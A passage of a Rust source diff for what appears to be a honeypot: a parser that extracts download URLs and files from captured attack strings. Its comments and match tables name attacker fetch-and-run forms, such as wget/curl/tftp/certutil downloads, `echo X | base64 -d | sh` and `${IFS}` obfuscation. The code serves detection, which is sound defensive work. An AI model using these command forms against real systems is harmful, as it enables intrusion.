@@ -1,8 +1,2193 @@
 //! Download command extraction (SPEC §8.2–§8.4, extended): a pure function from an attack
 //! string to the downloads it asks for. Replaces the command parsers of htm_ftpDownload.c,
 //! htm_tftpDownload.c and htm_httpDownload.c.
-use super::request::Request;
+//!
+//! How it works, in linear passes over at most `MAX_INPUT` bytes:
+//! 1. `normalize`: `%xx`/`+` decoding of HTTP request lines and form bodies (only there),
+//!    then everywhere `${IFS}`/`$IFS` → space, JSON `\/` and `\u00XX`, HTML entities.
+//! 2. `find_urls`: every `http://`, `https://`, `ftp://`, `tftp://` (any letter case).
+//! 3. `tokenize`: a forgiving shell-like split into commands (at `; & && | || \n` backtick
+//!    `$( ( ) { }`), words (quotes are transparent), and the command's stdout redirection.
+//! 4. Each command's program (after wrappers such as `busybox`, `sudo`, `sh -c`, `cmd /c`,
+//!    `powershell -c`, form-field prefixes `cmd=` and cron fields) decides how its words and
+//!    URLs are read: wget/curl/fetch/lwp-download/PowerShell/certutil/bitsadmin output names,
+//!    tftp (Windows, busybox and tftp-hpa syntax), ftpget, `echo … >> f` FTP scripts, inline
+//!    files written with `echo -e`/`printf`, and encoded shell bodies (`echo X | base64 -d |
+//!    sh`, `powershell -enc`, `printf '\x..' | sh`), which are decoded and scanned again, at
+//!    most `MAX_DEPTH` levels deep.
+//!
+//! Inline files: the bytes `echo -e`/`echo -ne`/`printf` write to one target file across the
+//! whole attack string (`>` truncates, `>>` appends) become one `Scheme::Inline` request named
+//! after the target's base name, when at least one write interpreted escapes and the file has
+//! at least `MIN_INLINE` bytes. Plain `echo text > f` (FTP scripts, cron lines) and targets
+//! under `/dev`, `/proc`, `/sys` are not reported.
+//!
+//! Requests found in a decoded body are ordered at the position of the command that carried
+//! it. `%xx` is decoded only in HTTP request lines and form bodies; elsewhere an encoded
+//! separator (`%20`, `%3B`, `%7C`, `%26`, …) ends a URL, as does `&` (a shell separator).
+//!
+//! Differences from the C parsers (deliberate): all letter cases, IPv6 hosts, ports and
+//! `user:pass@` are understood; the FTP default port is 21 (SPEC §8.2 quirk 2 made it 0);
+//! several downloads per attack; URLs stop at shell metacharacters instead of running
+//! through a shell (SPEC §13.2); URLs that only name something (`xmlns="http://…"`,
+//! `Referer: http://…`, a crawler's `User-Agent` home page) are not downloads.
+
+use super::decode::base64_decode;
+use super::request::{Request, Scheme};
+use std::collections::HashSet;
+
+/// Most requests `extract` returns.
 pub const MAX_REQUESTS: usize = 32;
-pub fn extract(_a: &[u8]) -> Vec<Request> {
-    Vec::new()
+/// Bytes of the attack string considered.
+pub const MAX_INPUT: usize = 4 << 20;
+/// Nesting of encoded command bodies (base64 in base64 in …).
+const MAX_DEPTH: usize = 3;
+/// Requests collected before deduplication and ordering stop looking.
+const MAX_FOUND: usize = 4 * MAX_REQUESTS;
+/// Longer URLs are not downloads.
+const MAX_URL: usize = 8192;
+/// Longer redirection targets are ignored (they key FTP scripts and inline files).
+const MAX_TARGET: usize = 4096;
+/// Inline files shorter than this are not reported (`echo -e '1' > f`).
+const MIN_INLINE: usize = 4;
+/// FTP scripts followed at once.
+const MAX_SCRIPTS: usize = 16;
+
+/// The downloads `attack` asks for, deduplicated (same scheme, host, port, credentials and
+/// path; for inline files the same file name), in order of appearance, at most
+/// `MAX_REQUESTS`. Roughly linear in the input size; input beyond `MAX_INPUT` is ignored.
+pub fn extract(attack: &[u8]) -> Vec<Request> {
+    let input = &attack[..attack.len().min(MAX_INPUT)];
+    let mut sink = Sink::default();
+    scan(input, 0, None, &mut sink);
+    let mut found = sink.found;
+    found.sort_by_key(|f| f.0);
+    found.into_iter().map(|f| f.1).take(MAX_REQUESTS).collect()
+}
+
+#[derive(PartialEq, Eq, Hash)]
+struct Key {
+    scheme: Scheme,
+    host: String,
+    port: u16,
+    user: Option<String>,
+    pass: Option<String>,
+    path: String,
+}
+
+fn key(r: &Request) -> Key {
+    if r.scheme == Scheme::Inline {
+        return Key {
+            scheme: r.scheme,
+            host: String::new(),
+            port: 0,
+            user: None,
+            pass: None,
+            path: r.filename.clone(),
+        };
+    }
+    Key {
+        scheme: r.scheme,
+        host: r.host.to_ascii_lowercase(),
+        port: r.port_or_default(),
+        user: r.user.clone(),
+        pass: r.pass.clone(),
+        path: r.path.clone(),
+    }
+}
+
+#[derive(Default)]
+struct Sink {
+    found: Vec<(usize, Request)>,
+    keys: HashSet<Key>,
+}
+
+impl Sink {
+    fn push(&mut self, pos: usize, r: Request) {
+        if self.full() {
+            return;
+        }
+        if r.scheme != Scheme::Inline && r.host.is_empty() {
+            return;
+        }
+        if self.keys.insert(key(&r)) {
+            self.found.push((pos, r));
+        }
+    }
+
+    fn full(&self) -> bool {
+        self.found.len() >= MAX_FOUND
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Small byte helpers.
+
+fn lower(w: &[u8]) -> Vec<u8> {
+    w.to_ascii_lowercase()
+}
+
+fn text(w: &[u8]) -> String {
+    String::from_utf8_lossy(w).into_owned()
+}
+
+fn starts_ci(hay: &[u8], at: usize, needle: &[u8]) -> bool {
+    hay.get(at..at.saturating_add(needle.len())).is_some_and(|s| s.eq_ignore_ascii_case(needle))
+}
+
+fn contains_ci(hay: &[u8], needle: &[u8]) -> bool {
+    !needle.is_empty() && hay.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
+}
+
+fn hex(c: u8) -> Option<u8> {
+    (c as char).to_digit(16).map(|v| v as u8)
+}
+
+/// The last component of a Unix or Windows path; `None` when empty.
+fn basename(p: &[u8]) -> Option<String> {
+    let b = match p.iter().rposition(|&c| c == b'/' || c == b'\\') {
+        Some(k) => &p[k + 1..],
+        None => p,
+    };
+    if b.is_empty() || b == b"." || b == b".." {
+        None
+    } else {
+        Some(text(b))
+    }
+}
+
+fn percent_decode(s: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        if s[i] == b'%' {
+            if let (Some(h), Some(l)) = (s.get(i + 1).and_then(|&c| hex(c)), s.get(i + 2).and_then(|&c| hex(c))) {
+                out.push(h << 4 | l);
+                i += 3;
+                continue;
+            }
+        }
+        out.push(s[i]);
+        i += 1;
+    }
+    out
+}
+
+fn is_digits(w: &[u8]) -> bool {
+    !w.is_empty() && w.iter().all(u8::is_ascii_digit)
+}
+
+fn parse_port(w: &[u8]) -> Option<u16> {
+    if !is_digits(w) || w.len() > 5 {
+        return None;
+    }
+    std::str::from_utf8(w).ok()?.parse().ok().filter(|&p| p != 0)
+}
+
+/// A DNS name or dotted IPv4 address as a command or URL may name a server.
+fn valid_name(h: &[u8]) -> bool {
+    !h.is_empty()
+        && h.len() <= 253
+        && h.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_'))
+        && h.iter().any(u8::is_ascii_alphanumeric)
+        && !matches!(h[0], b'.' | b'-')
+}
+
+fn valid_v6(h: &[u8]) -> bool {
+    std::str::from_utf8(h).is_ok_and(|s| s.parse::<std::net::Ipv6Addr>().is_ok())
+}
+
+/// Splits a server word of a command (`host`, `host:port`, `[v6]:port`, `v6`).
+fn host_port(w: &[u8]) -> Option<(String, Option<u16>)> {
+    if let Some(rest) = w.strip_prefix(b"[") {
+        let close = rest.iter().position(|&c| c == b']')?;
+        let h = &rest[..close];
+        let after = &rest[close + 1..];
+        let port = match after {
+            [] => None,
+            [b':', p @ ..] => Some(parse_port(p)?),
+            _ => return None,
+        };
+        return valid_v6(h).then(|| (text(h), port));
+    }
+    if valid_v6(w) && w.iter().filter(|&&c| c == b':').count() >= 2 {
+        return Some((text(w), None));
+    }
+    if let Some(k) = w.iter().position(|&c| c == b':') {
+        let (h, p) = (&w[..k], &w[k + 1..]);
+        if !valid_name(h) {
+            return None;
+        }
+        return Some((text(h), Some(parse_port(p)?)));
+    }
+    valid_name(w).then(|| (text(w), None))
+}
+
+/// Does a scheme-less word look like `host[:port]/path` (wget and curl default to http)?
+fn looks_like_server(w: &[u8]) -> bool {
+    let end = w.iter().position(|&c| c == b'/' || c == b':').unwrap_or(w.len());
+    let h = &w[..end];
+    let labels: Vec<&[u8]> = h.split(|&c| c == b'.').collect();
+    if labels.len() == 4 && labels.iter().all(|l| parse_port(l).is_some() || *l == b"0") {
+        return labels
+            .iter()
+            .all(|l| l.len() <= 3 && std::str::from_utf8(l).ok().and_then(|s| s.parse::<u8>().ok()).is_some());
+    }
+    // File names are not servers: `wget bins.sh` is not `http://bins.sh/`.
+    const NOT_TLD: &[&[u8]] = &[
+        b"sh", b"exe", b"bin", b"py", b"pl", b"elf", b"arm", b"arm5", b"arm6", b"arm7", b"mips", b"mpsl", b"ppc",
+        b"x86", b"m68k", b"sparc", b"sh4", b"tgz", b"gz", b"tar", b"zip", b"txt", b"php", b"ps1", b"bat", b"dll",
+    ];
+    valid_name(h)
+        && labels.len() >= 2
+        && labels
+            .last()
+            .is_some_and(|t| t.len() >= 2 && t.iter().all(u8::is_ascii_alphabetic) && !NOT_TLD.contains(&&lower(t)[..]))
+        && !labels.iter().any(|l| l.is_empty())
+}
+
+// ---------------------------------------------------------------------------------------
+// 1. Normalisation.
+
+const METHODS: &[&[u8]] =
+    &[b"GET ", b"POST ", b"HEAD ", b"PUT ", b"DELETE ", b"OPTIONS ", b"PATCH ", b"TRACE ", b"CONNECT ", b"PROPFIND "];
+
+fn url_decode_into(out: &mut Vec<u8>, s: &[u8]) {
+    let mut i = 0;
+    while i < s.len() {
+        match s[i] {
+            b'+' => out.push(b' '),
+            b'%' => {
+                if let (Some(h), Some(l)) = (s.get(i + 1).and_then(|&c| hex(c)), s.get(i + 2).and_then(|&c| hex(c))) {
+                    out.push(h << 4 | l);
+                    i += 3;
+                    continue;
+                }
+                out.push(b'%');
+            }
+            c => out.push(c),
+        }
+        i += 1;
+    }
+}
+
+/// Pass 1: `%xx` and `+` decoding of HTTP request lines and of form bodies (declared
+/// `x-www-form-urlencoded`, or body lines shaped like `a=b&c=d` without spaces).
+fn url_decode_http(raw: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(raw.len());
+    let (mut in_http, mut headers, mut form) = (false, false, false);
+    let mut start = 0;
+    while start < raw.len() {
+        let nl = raw[start..].iter().position(|&c| c == b'\n').map_or(raw.len(), |k| start + k + 1);
+        let line = &raw[start..nl];
+        let bare = line.strip_suffix(b"\n").unwrap_or(line);
+        let bare = bare.strip_suffix(b"\r").unwrap_or(bare);
+        if METHODS.iter().any(|m| bare.starts_with(m)) {
+            (in_http, headers, form) = (true, true, false);
+            url_decode_into(&mut out, line);
+        } else if in_http && headers {
+            if bare.is_empty() {
+                headers = false;
+            } else if starts_ci(bare, 0, b"content-type:") && contains_ci(bare, b"x-www-form-urlencoded") {
+                form = true;
+            }
+            out.extend_from_slice(line);
+        } else if in_http && (form || (!bare.contains(&b' ') && bare.contains(&b'='))) {
+            url_decode_into(&mut out, line);
+        } else {
+            out.extend_from_slice(line);
+        }
+        start = nl;
+    }
+    out
+}
+
+/// Pass 2, everywhere: `${IFS}`, `$IFS$9`, `$IFS` → space; JSON `\/` → `/` and `\u00XX`
+/// (printable ASCII); HTML entities `&amp; &lt; &gt; &quot; &apos; &#NN; &#xHH;`.
+fn unescape_common(s: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        let c = s[i];
+        if c == b'$' {
+            if s[i..].starts_with(b"${IFS") {
+                if let Some(k) = s[i..].iter().take(16).position(|&c| c == b'}') {
+                    out.push(b' ');
+                    i += k + 1;
+                    continue;
+                }
+            } else if s[i..].starts_with(b"$IFS")
+                && !s.get(i + 4).is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_')
+            {
+                i += 4;
+                if s.get(i) == Some(&b'$') && s.get(i + 1).is_some_and(u8::is_ascii_digit) {
+                    i += 2;
+                }
+                out.push(b' ');
+                continue;
+            }
+        } else if c == b'\\' {
+            if s.get(i + 1) == Some(&b'/') {
+                out.push(b'/');
+                i += 2;
+                continue;
+            }
+            if matches!(s.get(i + 1), Some(b'u' | b'U')) {
+                let h: Option<Vec<u8>> = s.get(i + 2..i + 6).map(|d| d.iter().filter_map(|&c| hex(c)).collect());
+                if let Some(h) = h.filter(|h| h.len() == 4) {
+                    let v = (u32::from(h[0]) << 12) | (u32::from(h[1]) << 8) | (u32::from(h[2]) << 4) | u32::from(h[3]);
+                    if (0x20..0x7f).contains(&v) {
+                        out.push(v as u8);
+                        i += 6;
+                        continue;
+                    }
+                }
+            }
+        } else if c == b'&' {
+            if let Some((b, n)) = html_entity(&s[i..]) {
+                out.push(b);
+                i += n;
+                continue;
+            }
+        }
+        out.push(c);
+        i += 1;
+    }
+    out
+}
+
+fn html_entity(s: &[u8]) -> Option<(u8, usize)> {
+    for (name, b) in [(&b"&amp;"[..], b'&'), (b"&lt;", b'<'), (b"&gt;", b'>'), (b"&quot;", b'"'), (b"&apos;", b'\'')] {
+        if starts_ci(s, 0, name) {
+            return Some((b, name.len()));
+        }
+    }
+    let body = s.strip_prefix(b"&#")?;
+    let semi = body.iter().take(6).position(|&c| c == b';')?;
+    let num = &body[..semi];
+    let v = match num {
+        [b'x' | b'X', h @ ..] => u32::from_str_radix(std::str::from_utf8(h).ok()?, 16).ok()?,
+        d => std::str::from_utf8(d).ok()?.parse::<u32>().ok()?,
+    };
+    (0x20..0x7f).contains(&v).then_some((v as u8, semi + 3))
+}
+
+fn normalize(raw: &[u8]) -> Vec<u8> {
+    unescape_common(&url_decode_http(raw))
+}
+
+// ---------------------------------------------------------------------------------------
+// 2. URLs.
+
+#[derive(Clone, Debug)]
+struct Url {
+    scheme: Scheme,
+    host: String,
+    port: Option<u16>,
+    user: Option<String>,
+    pass: Option<String>,
+    path: String,
+    /// Last path component, `index.html` for an HTTP directory.
+    name: String,
+}
+
+#[derive(Clone, Debug)]
+struct UrlHit {
+    start: usize,
+    end: usize,
+    line_start: usize,
+    url: Url,
+}
+
+/// Where a URL starting at `from` (just after `://`) ends: at whitespace and control bytes,
+/// quotes, `< > | ; &` backtick `{ } \`, an unbalanced `)`, or an encoded separator;
+/// trailing punctuation is dropped.
+fn url_end(t: &[u8], from: usize) -> usize {
+    let mut depth = 0usize;
+    let mut brackets = 0usize;
+    let mut i = from;
+    while i < t.len() && i - from <= MAX_URL {
+        let c = t[i];
+        match c {
+            0x21..=0x7e => {}
+            _ => break,
+        }
+        if matches!(c, b'"' | b'\'' | b'<' | b'>' | b'|' | b';' | b'&' | b'`' | b'{' | b'}' | b'\\') {
+            break;
+        }
+        if c == b'(' {
+            depth += 1;
+        } else if c == b')' {
+            if depth == 0 {
+                break;
+            }
+            depth -= 1;
+        } else if c == b'[' {
+            brackets += 1;
+        } else if c == b'%' {
+            if let Some(e) = t.get(i + 1..i + 3) {
+                let e = lower(e);
+                if matches!(
+                    &e[..],
+                    b"20" | b"09" | b"0a" | b"0d" | b"3b" | b"7c" | b"26" | b"60" | b"27" | b"22" | b"3c" | b"3e"
+                ) {
+                    break;
+                }
+            }
+        }
+        i += 1;
+    }
+    while i > from {
+        let c = t[i - 1];
+        if matches!(c, b'.' | b',' | b':' | b'!' | b'?') || (c == b']' && brackets == 0) {
+            i -= 1;
+        } else {
+            break;
+        }
+    }
+    i
+}
+
+/// Parses `rest` (the URL after `scheme://`).
+fn parse_url(scheme: Scheme, rest: &[u8]) -> Option<Url> {
+    let auth_end = rest.iter().position(|&c| matches!(c, b'/' | b'?' | b'#')).unwrap_or(rest.len());
+    let auth = &rest[..auth_end];
+    let tail = &rest[auth_end..];
+    let tail = &tail[..tail.iter().position(|&c| c == b'#').unwrap_or(tail.len())];
+    let (userinfo, hp) = match auth.iter().rposition(|&c| c == b'@') {
+        Some(k) => (Some(&auth[..k]), &auth[k + 1..]),
+        None => (None, auth),
+    };
+    let (user, pass) = match userinfo {
+        None => (None, None),
+        Some(ui) => match ui.iter().position(|&c| c == b':') {
+            Some(k) => (Some(text(&percent_decode(&ui[..k]))), Some(text(&percent_decode(&ui[k + 1..])))),
+            None => (Some(text(&percent_decode(ui))), None),
+        },
+    };
+    let (host, port) = if let Some(inner) = hp.strip_prefix(b"[") {
+        let close = inner.iter().position(|&c| c == b']')?;
+        let h = &inner[..close];
+        if !valid_v6(h) {
+            return None;
+        }
+        let port = match &inner[close + 1..] {
+            [] | [b':'] => None,
+            [b':', p @ ..] => Some(parse_port(p)?),
+            _ => return None,
+        };
+        (text(h), port)
+    } else {
+        let (h, p) = match hp.iter().position(|&c| c == b':') {
+            Some(k) => (&hp[..k], &hp[k + 1..]),
+            None => (hp, &b""[..]),
+        };
+        if !valid_name(h) {
+            return None;
+        }
+        let port = if p.is_empty() { None } else { Some(parse_port(p)?) };
+        (text(h), port)
+    };
+    let (path, name) = match scheme {
+        Scheme::Http | Scheme::Https => {
+            let path = match tail.first() {
+                None => b"/".to_vec(),
+                Some(b'?') => [b"/", tail].concat(),
+                Some(_) => tail.to_vec(),
+            };
+            let p = &path[..path.iter().position(|&c| c == b'?').unwrap_or(path.len())];
+            let name = basename(p).filter(|n| !p.ends_with(b"/") && !n.is_empty());
+            (text(&path), name.unwrap_or_else(|| "index.html".into()))
+        }
+        _ => {
+            let t = tail.strip_prefix(b"/").unwrap_or(tail);
+            let t = &t[..t.iter().position(|&c| c == b';' || c == b'?').unwrap_or(t.len())];
+            let p = percent_decode(t);
+            let name = basename(&p)?;
+            (text(&p), name)
+        }
+    };
+    Some(Url { scheme, host, port, user, pass, path, name })
+}
+
+const SCHEMES: &[(&[u8], Scheme)] =
+    &[(b"https", Scheme::Https), (b"tftp", Scheme::Tftp), (b"http", Scheme::Http), (b"ftp", Scheme::Ftp)];
+
+/// Every URL of a known scheme in `t`, in order. A URL inside another URL's text is not
+/// looked for again (keeps the scan linear).
+fn find_urls(t: &[u8]) -> Vec<UrlHit> {
+    let mut hits = Vec::new();
+    let mut line_start = 0;
+    let mut i = 0;
+    while i < t.len() {
+        if t[i] == b'\n' {
+            line_start = i + 1;
+        }
+        if t[i] != b':' || t.get(i + 1..i + 3) != Some(b"//") {
+            i += 1;
+            continue;
+        }
+        let found = SCHEMES.iter().find(|(s, _)| i >= s.len() && t[i - s.len()..i].eq_ignore_ascii_case(s));
+        let Some(&(sname, scheme)) = found else {
+            i += 1;
+            continue;
+        };
+        let start = i - sname.len();
+        let from = i + 3;
+        let end = url_end(t, from);
+        if end - from <= MAX_URL {
+            if let Some(url) = parse_url(scheme, &t[from..end]) {
+                hits.push(UrlHit { start, end, line_start, url });
+            }
+        }
+        i = end.max(i + 1);
+    }
+    hits
+}
+
+// ---------------------------------------------------------------------------------------
+// 3. Commands.
+
+#[derive(Clone, Copy)]
+struct Word {
+    a: usize,
+    b: usize,
+}
+
+#[derive(Clone)]
+struct Cmd {
+    w0: usize,
+    w1: usize,
+    start: usize,
+    /// stdout redirection: target (range in the word buffer) and whether it appends.
+    redir: Option<(usize, usize, bool)>,
+    /// Ended by a single `|`: its output feeds the next command.
+    piped: bool,
+}
+
+#[derive(Default)]
+struct Toks {
+    buf: Vec<u8>,
+    words: Vec<Word>,
+    cmds: Vec<Cmd>,
+}
+
+impl Toks {
+    fn words(&self, c: &Cmd) -> Vec<&[u8]> {
+        self.words[c.w0..c.w1].iter().map(|w| &self.buf[w.a..w.b]).collect()
+    }
+
+    fn redir(&self, c: &Cmd) -> Option<(&[u8], bool)> {
+        c.redir.map(|(a, b, app)| (&self.buf[a..b], app))
+    }
+}
+
+#[derive(Default)]
+struct Tokenizer {
+    tk: Toks,
+    /// Start of the word being read in `buf`, and its position in the text.
+    cur: Option<(usize, usize)>,
+    w0: usize,
+    start: Option<usize>,
+    redir: Option<(usize, usize, bool)>,
+    /// The next word is a redirection target: (append, is stdout).
+    pending: Option<(bool, bool)>,
+    has_echo: bool,
+}
+
+impl Tokenizer {
+    fn push_char(&mut self, c: u8, pos: usize) {
+        if self.cur.is_none() {
+            self.cur = Some((self.tk.buf.len(), pos));
+        }
+        self.tk.buf.push(c);
+    }
+
+    fn end_word(&mut self) {
+        let Some((a, pos)) = self.cur.take() else { return };
+        let b = self.tk.buf.len();
+        if let Some((append, stdout)) = self.pending.take() {
+            if stdout && b - a <= MAX_TARGET {
+                self.redir = Some((a, b, append));
+            }
+            if self.start.is_none() {
+                self.start = Some(pos);
+            }
+            return;
+        }
+        let w = &self.tk.buf[a..b];
+        if w.eq_ignore_ascii_case(b"echo") || w.eq_ignore_ascii_case(b"@echo") {
+            self.has_echo = true;
+        }
+        self.tk.words.push(Word { a, b });
+        if self.start.is_none() {
+            self.start = Some(pos);
+        }
+    }
+
+    fn end_cmd(&mut self, piped: bool) {
+        self.end_word();
+        let w1 = self.tk.words.len();
+        if let Some(start) = self.start.take() {
+            if w1 > self.w0 || self.redir.is_some() {
+                self.tk.cmds.push(Cmd { w0: self.w0, w1, start, redir: self.redir, piped });
+            }
+        }
+        self.w0 = w1;
+        self.redir = None;
+        self.pending = None;
+        self.has_echo = false;
+    }
+}
+
+fn tokenize(t: &[u8]) -> Toks {
+    let mut z = Tokenizer::default();
+    let mut i = 0;
+    while i < t.len() {
+        let c = t[i];
+        match c {
+            b' ' | b'\t' => {
+                z.end_word();
+                i += 1;
+            }
+            b'\'' | b'"' => i += 1,
+            b';' | b'`' | b'(' | b')' | b'}' | b'&' => {
+                z.end_cmd(false);
+                i += 1;
+            }
+            b'{' => {
+                // Brace expansion `{echo,X}` gives words; any other brace separates.
+                let mut j = i + 1;
+                while j < t.len()
+                    && j - i < MAX_TARGET
+                    && !matches!(t[j], b'{' | b'}' | b';' | b'|' | b'&')
+                    && t[j] > b' '
+                {
+                    j += 1;
+                }
+                if t.get(j) == Some(&b'}') && t[i + 1..j].contains(&b',') {
+                    z.end_word();
+                    for (k, &ch) in t.iter().enumerate().take(j).skip(i + 1) {
+                        match ch {
+                            b',' => z.end_word(),
+                            b'\'' | b'"' => {}
+                            _ => z.push_char(ch, k),
+                        }
+                    }
+                    z.end_word();
+                    i = j + 1;
+                } else {
+                    z.end_cmd(false);
+                    i += 1;
+                }
+            }
+            b'|' => {
+                if t.get(i + 1) == Some(&b'|') {
+                    z.end_cmd(false);
+                    i += 2;
+                } else {
+                    z.end_cmd(true);
+                    i += 1;
+                }
+            }
+            b'$' if t.get(i + 1) == Some(&b'(') => {
+                z.end_cmd(false);
+                i += 2;
+            }
+            b'>' => {
+                // A single digit glued to `>` is a file descriptor, except in `echo` lines
+                // (Windows `echo user 1 1>>f` writes "user 1 1").
+                let mut stdout = true;
+                if let Some((a, _)) = z.cur {
+                    let w = &z.tk.buf[a..];
+                    if w.len() == 1 && w[0].is_ascii_digit() && (w[0] != b'1' || !z.has_echo) {
+                        stdout = w[0] == b'1';
+                        z.tk.buf.truncate(a);
+                        z.cur = None;
+                    }
+                }
+                z.end_word();
+                let append = t.get(i + 1) == Some(&b'>');
+                i += 1 + usize::from(append);
+                if t.get(i) == Some(&b'&') {
+                    i += 1;
+                    while t.get(i).is_some_and(|c| c.is_ascii_digit() || *c == b'-') {
+                        i += 1;
+                    }
+                    continue;
+                }
+                z.pending = Some((append, stdout));
+            }
+            b'<' => {
+                z.end_word();
+                i += 1;
+            }
+            c if c < 0x20 || c == 0x7f => {
+                z.end_cmd(false);
+                i += 1;
+            }
+            _ => {
+                z.push_char(c, i);
+                i += 1;
+            }
+        }
+    }
+    z.end_cmd(false);
+    z.tk
+}
+
+// ---------------------------------------------------------------------------------------
+// 4. Programs.
+
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Prog {
+    Wget,
+    Curl,
+    Fetch,
+    /// Programs whose output file is the word after the URL: lwp-download, certutil,
+    /// bitsadmin.
+    UrlThenFile,
+    /// PowerShell cmdlets: Invoke-WebRequest, iwr, Invoke-RestMethod, irm,
+    /// Start-BitsTransfer.
+    PsWeb,
+    Tftp,
+    Ftpget,
+    Echo,
+    Printf,
+    Base64,
+    Shell,
+    /// `powershell -enc <base64 UTF-16LE>`: index of the encoded word.
+    PsEnc(usize),
+    Other,
+}
+
+fn classify(name: &[u8]) -> Option<Prog> {
+    Some(match name {
+        b"wget" => Prog::Wget,
+        b"curl" => Prog::Curl,
+        b"fetch" => Prog::Fetch,
+        b"lwp-download" | b"certutil" | b"bitsadmin" => Prog::UrlThenFile,
+        b"invoke-webrequest" | b"iwr" | b"invoke-restmethod" | b"irm" | b"start-bitstransfer" => Prog::PsWeb,
+        b"tftp" => Prog::Tftp,
+        b"ftpget" => Prog::Ftpget,
+        b"echo" | b"@echo" => Prog::Echo,
+        b"printf" => Prog::Printf,
+        b"base64" => Prog::Base64,
+        b"sh" | b"bash" | b"ash" | b"dash" | b"zsh" | b"ksh" => Prog::Shell,
+        _ => return None,
+    })
+}
+
+/// The program name a word names: after a form-field or URL prefix (`cmd=`, `?`, `:`), the
+/// last path component, lower case, without `.exe`.
+fn prog_name(w: &[u8]) -> Vec<u8> {
+    let w = match w.iter().rposition(|&c| matches!(c, b'=' | b'?' | b':')) {
+        Some(k) => &w[k + 1..],
+        None => w,
+    };
+    let w = match w.iter().rposition(|&c| c == b'/' || c == b'\\') {
+        Some(k) => &w[k + 1..],
+        None => w,
+    };
+    let mut l = lower(w);
+    if l.ends_with(b".exe") {
+        l.truncate(l.len() - 4);
+    }
+    l
+}
+
+/// Finds the program of a command: returns it and the index of its first argument.
+fn resolve(words: &[&[u8]]) -> (Prog, usize) {
+    let mut k = 0;
+    while k < words.len() {
+        let w = words[k];
+        let name = prog_name(w);
+        match &name[..] {
+            b"busybox" | b"sudo" | b"nohup" | b"exec" | b"env" | b"time" | b"nice" | b"then" | b"do" | b"else"
+            | b"eval" | b"call" | b"command" | b"!" | b"su" => {
+                k += 1;
+                continue;
+            }
+            b"start" => {
+                k += 1;
+                while words.get(k).is_some_and(|w| w.starts_with(b"/")) {
+                    k += 1;
+                }
+                continue;
+            }
+            b"cmd" => {
+                k += 1;
+                while words.get(k).is_some_and(|w| w.starts_with(b"/") && w.len() <= 6) {
+                    k += 1;
+                }
+                continue;
+            }
+            b"sh" | b"bash" | b"ash" | b"dash" | b"zsh" | b"ksh" => {
+                if words.get(k + 1).is_some_and(|o| o.starts_with(b"-") && o.contains(&b'c')) {
+                    k += 2;
+                    continue;
+                }
+                return (Prog::Shell, k + 1);
+            }
+            b"powershell" | b"pwsh" => {
+                k += 1;
+                while let Some(o) = words.get(k) {
+                    let ol = lower(o);
+                    if !(ol.starts_with(b"-") || ol.starts_with(b"/")) {
+                        break;
+                    }
+                    let opt = &ol[1..];
+                    if !opt.is_empty() && (b"encodedcommand".starts_with(opt) || opt == b"ec") && opt.starts_with(b"e")
+                    {
+                        return (Prog::PsEnc(k + 1), k + 2);
+                    }
+                    if opt == b"c" || opt == b"command" {
+                        k += 1;
+                        break;
+                    }
+                    let takes_value = matches!(
+                        opt,
+                        b"w" | b"windowstyle" | b"win" | b"ep" | b"ex" | b"exec" | b"executionpolicy" | b"f" | b"file"
+                    );
+                    k += 1 + usize::from(takes_value);
+                }
+                continue;
+            }
+            _ => {}
+        }
+        if let Some(p) = classify(&name) {
+            return (p, k + 1);
+        }
+        // cron fields (`*/5 * * * *`, `@reboot`), environment assignments and form fields
+        // (`todo=syscmd`) before the program.
+        let cron = w.iter().all(|c| matches!(c, b'*' | b'/' | b',' | b'-' | b'0'..=b'9')) || w.starts_with(b"@");
+        if (cron || w.contains(&b'=')) && k + 1 < words.len() {
+            k += 1;
+            continue;
+        }
+        // An unknown leading word (`EXEC master..xp_cmdshell`, the user field of a system
+        // crontab line, a SQL or script wrapper): a download client later in the same
+        // command is still the program.
+        for (j, w) in words.iter().enumerate().skip(k + 1) {
+            if let Some(p) = classify(&prog_name(w)) {
+                if matches!(
+                    p,
+                    Prog::Wget | Prog::Curl | Prog::Fetch | Prog::UrlThenFile | Prog::PsWeb | Prog::Tftp | Prog::Ftpget
+                ) {
+                    return (p, j + 1);
+                }
+            }
+        }
+        return (Prog::Other, k + 1);
+    }
+    (Prog::Other, words.len())
+}
+
+// ---------------------------------------------------------------------------------------
+// Option parsing of the web clients.
+
+#[derive(Default)]
+struct WebArgs<'a> {
+    /// Output file (`-O`, `-o`, `-OutFile`, the word after the URL, …); `-` is stdout.
+    output: Option<&'a [u8]>,
+    /// curl `-O`: save under the remote name.
+    remote_name: bool,
+    positionals: Vec<&'a [u8]>,
+    user: Option<String>,
+    pass: Option<String>,
+    /// busybox `wget -g HOST -l LOCAL -r REMOTE` (TFTP syntax used by Satori's exploit).
+    g_host: Option<&'a [u8]>,
+    g_local: Option<&'a [u8]>,
+    g_remote: Option<&'a [u8]>,
+}
+
+fn parse_web<'a>(prog: Prog, args: &[&'a [u8]]) -> WebArgs<'a> {
+    let mut wa = WebArgs::default();
+    let (out_letter, value_letters): (u8, &[u8]) = match prog {
+        Prog::Wget => (b'O', b"otTUPeiaBwQDIXRAlY"),
+        Prog::Curl => (b'o', b"AbcdDeEFhHKmrTuUwxXyYzCQ"),
+        Prog::Fetch => (b'o', b"BSTNiM"),
+        _ => (0, b""),
+    };
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i];
+        let al = lower(a);
+        let next = args.get(i + 1).copied();
+        i += 1;
+        if a.len() < 2
+            || !(a[0] == b'-'
+                || (a[0] == b'/'
+                    && matches!(prog, Prog::UrlThenFile)
+                    && !a[1..].contains(&b'/')
+                    && !a[1..].contains(&b'\\')))
+        {
+            wa.positionals.push(a);
+            continue;
+        }
+        // PowerShell-style parameters (also the wget/curl aliases of Windows PowerShell).
+        if al.starts_with(b"-outf") || al.starts_with(b"-dest") {
+            wa.output = next;
+            i += 1;
+            continue;
+        }
+        if matches!(prog, Prog::PsWeb | Prog::UrlThenFile) {
+            let takes = matches!(
+                &al[1..],
+                b"method"
